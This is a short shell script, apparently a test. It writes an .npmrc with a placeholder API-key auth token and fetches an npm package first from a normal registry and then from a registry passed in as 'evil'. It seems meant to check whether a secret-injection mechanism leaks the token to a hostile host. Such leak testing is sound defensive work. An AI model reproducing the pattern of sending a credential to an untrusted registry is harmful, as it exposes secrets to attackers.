# npm, from a registry that wants a token.
set -eu
base=${1%/v1} evil=$2
fetch() {
    printf 'registry=%s/npm/\n//%s/npm/:_authToken={secrets.crm.apiKey}\nfetch-retries=0\ncache=%s/npm-cache\n' "$1" "${1#https://}" "$PWD" >.npmrc
    npm pack --silent --userconfig "$PWD/.npmrc" tiny
}
fetch "$base"
fetch "$evil" || { npm view --userconfig "$PWD/.npmrc" tiny || true; }
